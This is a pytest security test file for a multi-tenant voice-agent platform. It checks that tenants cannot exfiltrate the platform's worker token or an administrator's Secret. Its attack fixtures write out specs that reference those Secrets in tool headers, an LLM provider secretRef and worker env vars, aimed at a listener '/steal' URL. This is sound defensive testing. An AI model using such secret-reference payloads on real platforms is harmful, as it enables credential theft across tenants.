"""Attack 1 of issue 16: a tenant's spec names the platform's worker-token Secret (or any Secret it did not
write through the secrets API) so that its worker sends the value to the tenant's own URL.

Tried as the tenant would, against the real platform: through the REST API (a tool header's secretKeyRef, a
provider's secretRef, a worker env var) the PUT is refused with a 422 naming the field; with kubectl (as a member
of the tenant's group) the VoiceAgent is stored but the operator reports a Degraded condition naming the field
and builds no pod. A legitimate agent, whose tool header comes from a secret the tenant wrote through
`PUT /v1/secrets/{name}`, really calls the listener from a real worker during a real call; and in every case the
listener never receives the platform's root token nor any tenant's worker token.
"""

from __future__ import annotations

import asyncio
import secrets
import time

import pytest
import yaml
from kubernetes import client

from tests.callers.caller_bot import CallerBot
from tests.security import secret_ledger
from tests.security.hostile_platform import REGION, WORKER_TOKEN_SECRET, names_field, offline_spec, tool
from tests.world.waiting import wait_for
from voxfleet.api import labels

pytestmark = [pytest.mark.world, pytest.mark.timeout(600)]

TOKEN_REF = {"name": WORKER_TOKEN_SECRET, "key": labels.WORKER_TOKEN_KEY}


@pytest.fixture(scope="module")
def acme(platform):
    tenant = platform.add_tenant("acme", groups=["acme-devs"])
    return tenant


@pytest.fixture(scope="module")
def admin_secret(platform, acme):
    """A Secret an administrator put in the tenant's namespace (not a tenant secret): also out of bounds."""
    value = secret_ledger.record(f"db-{secrets.token_urlsafe(18)}", "an administrator's Secret value")
    client.CoreV1Api(platform.api_client).create_namespaced_secret(acme.namespace, {
        "metadata": {"name": "admin-db"}, "stringData": {"password": value}})
    return {"name": "admin-db", "key": "password"}


def _attacks(listener_url: str, admin_ref: dict) -> dict[str, tuple[dict, tuple[str, ...]]]:
    """name -> (spec, fragments of the field the refusal must name)."""
    header = [{"name": "X-Steal", "secretKeyRef": TOKEN_REF}]
    return {
        "tool header takes the worker token": (
            offline_spec(tools=[tool(f"{listener_url}/steal", headers=header)]),
            ("tools[0]", "secretKeyRef")),
        "provider secretRef takes the worker token": (
            offline_spec(pipeline={"stt": {"provider": "pocketsphinx"}, "tts": {"provider": "espeak"},
                                   "llm": {"provider": "openai", "model": "m", "baseUrl": f"{listener_url}/v1",
                                           "secretRef": TOKEN_REF}}),
            ("llm", "secretRef")),
        "worker env takes the worker token": (
            offline_spec(worker={"env": [{"name": "STOLEN", "secretKeyRef": TOKEN_REF}]}),
            ("worker",)),  # the API takes no worker settings at all (kubectl users may; the operator checks)
        "tool header takes an administrator's Secret": (
            offline_spec(tools=[tool(f"{listener_url}/steal", headers=[{"name": "X-Db", "secretKeyRef": admin_ref}])]),
            ("tools[0]", "secretKeyRef")),
    }


def test_put_naming_a_platform_secret_is_refused_naming_the_field(platform, acme, admin_secret):
    refused = {}
    with platform.api(acme) as http:
        for index, (attack, (spec, fragments)) in enumerate(_attacks(platform.listener.url, admin_secret).items()):
            agent = f"thief-{index}"
            response = http.put(f"/v1/agents/{agent}", json=spec)
            refused[attack] = (response.status_code, [d.get("field") for d in response.json().get("details", [])])
            assert response.status_code == 422, (attack, response.text)
            assert names_field(response, *fragments), (attack, fragments, response.text)
            assert http.get(f"/v1/agents/{agent}").status_code == 404, f"{attack}: the refused agent exists"
    print("refusals:", refused)
    assert platform.listener.leaks(platform.platform_credentials()) == []


def test_the_tenant_cannot_overwrite_or_read_the_worker_token_through_the_secrets_api(platform, acme):
    before = platform.worker_token_of(acme.namespace)
    with platform.api(acme) as http:
        written = http.put(f"/v1/secrets/{WORKER_TOKEN_SECRET}", json={"data": {"token": "mine-0123456789abc"}})
        assert written.status_code in (409, 422), written.text
        assert names_field(written, "name"), written.text
        listed = http.get("/v1/secrets")
        assert listed.status_code == 200 and WORKER_TOKEN_SECRET not in listed.text
        assert http.get(f"/v1/secrets/{WORKER_TOKEN_SECRET}").status_code == 404
    assert platform.worker_token_of(acme.namespace) == before


KUBECTL_ATTACKS = {
    "tool-header": (lambda url: {"tools": [tool(f"{url}/steal", headers=[{"name": "X-Steal",
                                                                         "secretKeyRef": TOKEN_REF}])]},
                    ("tools", "secretKeyRef")),
    "provider": (lambda url: {"pipeline": {"stt": {"provider": "pocketsphinx"}, "tts": {"provider": "espeak"},
                                           "llm": {"provider": "openai", "model": "m", "baseUrl": f"{url}/v1",
                                                   "secretRef": TOKEN_REF}}},
                 ("llm", "secretRef")),
    "worker-env": (lambda url: {"worker": {"env": [{"name": "STOLEN", "secretKeyRef": TOKEN_REF}]}},
                   ("env", "secretKeyRef")),
}


@pytest.mark.parametrize("attack", list(KUBECTL_ATTACKS))
def test_kubectl_apply_naming_the_worker_token_degrades_naming_the_field_and_builds_no_pod(platform, acme, attack):
    changes, fragments = KUBECTL_ATTACKS[attack]
    agent = f"kubectl-{attack}"
    manifest = {"apiVersion": "voxfleet.dev/v1alpha1", "kind": "VoiceAgent",
                "metadata": {"name": agent, "namespace": acme.namespace},
                "spec": offline_spec(**changes(platform.listener.url),
                                     regions=[{"name": REGION, "minWorkers": 1, "maxWorkers": 1}])}
    applied = platform.kubectl_as("acme-devs", "apply", "-f", "-", input=yaml.safe_dump(manifest))
    assert applied.returncode == 0, applied.stderr  # the tenant's group may write VoiceAgents; the operator judges
    denied = platform.kubectl_as("acme-devs", "get", "secret", WORKER_TOKEN_SECRET, "-n", acme.namespace)
    assert denied.returncode != 0 and "forbidden" in denied.stderr.lower(), denied.stdout  # and may not read it

    degraded = wait_for(f"{agent} Degraded", lambda: (c := platform.degraded(acme.namespace, agent))
                        .get("status") == "True" and c, timeout=60, interval=0.5)
    print(f"{attack}: Degraded {degraded.get('reason')}: {degraded.get('message')}")
    assert all(fragment in degraded["message"] for fragment in fragments), degraded
    time.sleep(3)  # a few reconcile rounds: still nothing built
    assert platform.worker_pods(acme.namespace, agent) == []
    deployment = platform.fleet.deployment(acme.namespace, f"{agent}-{REGION}")
    assert deployment is None or not deployment.spec.replicas
    events = [e.message or "" for e in platform.fleet.events(acme.namespace, agent) if e.type == "Warning"]
    assert any(all(fragment in m for fragment in fragments) for m in events), events
    assert platform.listener.leaks(platform.platform_credentials()) == []


async def test_a_tenant_secret_reaches_the_tenants_own_tool_and_no_platform_credential_ever_does(platform, acme):
    """The positive control: the listener is reachable from a real worker, and receives what the tenant wrote."""
    value = secret_ledger.record(f"tool-{secrets.token_urlsafe(20)}", f"tenant secret value of {acme.name}")
    agent = "honest"
    with platform.api(acme) as http:
        written = http.put("/v1/secrets/orders-api", json={"data": {"key": value}})
        assert written.status_code == 201, written.text
        assert value not in written.text
        spec = offline_spec(
            tools=[tool(f"{platform.listener.url}/orders", name="lookup_order",
                        headers=[{"name": "X-Api-Key", "secretKeyRef": {"name": "orders-api", "key": "key"}}])],
            intents=[{"name": "order", "keywords": ["order"], "reply": "{result}",
                      "toolCall": {"name": "lookup_order", "arguments": {"q": "42"}}}],
            turnDetection={"detector": "speech-timeout", "vad": {"stopMs": 200},
                           "timeouts": {"speechTimeoutMs": 300}},
            regions=[{"name": REGION, "minWorkers": 1, "maxWorkers": 1}])
        created = http.put(f"/v1/agents/{agent}", json=spec)
        assert created.status_code == 201, created.text
        platform.wait_ready_workers(acme, agent, timeout=180)
        deadline = time.monotonic() + 60
        while (session := http.post(f"/v1/agents/{agent}/sessions", json={})).status_code == 503:
            assert time.monotonic() < deadline, session.text
            time.sleep(0.5)
        assert session.status_code == 201, session.text
    joined = session.json()
    async with CallerBot(joined["livekitUrl"], joined["token"]) as caller:
        await caller.wait_for_agent_speech(timeout=45)
        for _attempt in range(4):  # PocketSphinx on a loaded machine may miss a word: say it again
            await caller.say("order status please")
            for _ in range(40):
                if platform.listener.server.calls("/orders"):
                    break
                await asyncio.sleep(0.25)
            if platform.listener.server.calls("/orders"):
                break
    calls = platform.listener.server.calls("/orders")
    assert calls, "the worker never called the tenant's tool"
    assert calls[0].headers.get("x-api-key") == value  # the tenant's own secret, as the tenant wrote it
    leaks = platform.listener.leaks(platform.platform_credentials())
    print(f"listener: {len(platform.listener.requests())} request(s), tool calls {len(calls)}, platform credentials"
          f" seen: {leaks or 'none'}")
    assert leaks == []
